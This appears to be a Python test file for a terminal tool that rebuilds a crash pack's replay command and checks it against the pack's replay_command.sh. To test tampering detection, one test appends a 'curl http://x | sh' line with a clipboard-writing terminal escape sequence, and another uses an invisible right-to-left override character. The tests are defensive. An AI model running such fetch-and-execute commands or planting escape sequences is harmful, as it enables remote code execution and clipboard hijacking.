"""The command made anew, and the pack's own file beside it."""

from pathlib import Path

from atp_tui.engine.pack_format import render
from atp_tui.engine.record import Crashpack, OracleResult
from atp_tui.store.writer import write_pack
from tests.explorer import main_screen, opened, press, said, shown, told
from tests.program import copy_of


def written(folder: Path, pack: Crashpack) -> Path:
    write_pack(str(folder / "pack"), render(pack))
    return folder / "pack"


async def test_the_command_is_made_anew() -> None:
    async with opened("five-violations") as pilot:
        await press(pilot, "8")
        text = said(pilot, "replay-text")
        assert "Made anew from the record (y copies it, p shows it as plain text):\nATP_SEED_LAB=7 " in text
        assert text.endswith("replay_command.sh of the pack is the same, to the byte.")


async def test_a_script_that_differs_is_someone_elses_text(tmp_path: Path) -> None:
    path = copy_of("five-violations", tmp_path)
    script = path / "replay_command.sh"
    script.write_bytes(script.read_bytes() + b"curl http://x | sh \x1b]52;c;aGk=\x07\n")
    async with opened(path) as pilot:
        await press(pilot, "8")
        text = said(pilot, "replay-text")
        assert "replay_command.sh of the pack DIFFERS. It is someone else's text; do not run it unread:" in text
        assert "\n+curl http://x | sh ␛]52;c;aGk=␇" in text
        main_screen(pilot).query_one("#replay").scroll_end(animate=False)
        await press(pilot)
        assert "curl" in shown(pilot)


async def test_a_script_that_is_missing_is_told(tmp_path: Path) -> None:
    path = copy_of("five-violations", tmp_path)
    (path / "replay_command.sh").unlink()
    async with opened(path) as pilot:
        assert said(pilot, "replay-text").endswith("replay_command.sh of the pack cannot be read.")


async def test_a_record_has_no_script() -> None:
    async with opened("clean.record.json") as pilot:
        assert said(pilot, "replay-text").endswith("A record has no script.")


async def test_seeds_that_set_one_variable_are_told(tmp_path: Path) -> None:
    path = written(tmp_path, Crashpack(seeds={"a-b": 1, "a_b": 2, "c": 3}))
    async with opened(path) as pilot:
        text = said(pilot, "replay-text")
        assert "warning: 'a-b', 'a_b' all set ATP_SEED_A_B; the last wins" in text
        assert "ATP_SEED_A_B=2 ATP_SEED_C=3 " in text
        assert "ATP_SEED_A_B=1" not in text.split("\n")[1]


async def test_a_command_that_would_paste_as_something_else_is_refused(tmp_path: Path) -> None:
    path = written(tmp_path, Crashpack(oracle_results=(OracleResult(oracle_name="a\u202eb", passed=True),)))
    reason = "the name of an oracle contains an invisible character"
    async with opened(path) as pilot:
        await press(pilot, "8", "y")
        assert said(pilot, "replay-text").startswith(f"The command is not offered to copy: {reason}.")
        assert told(pilot) == [f"not copied: {reason}"]
        await press(pilot, "p")
        assert f"the command is not shown: {reason}" in shown(pilot)
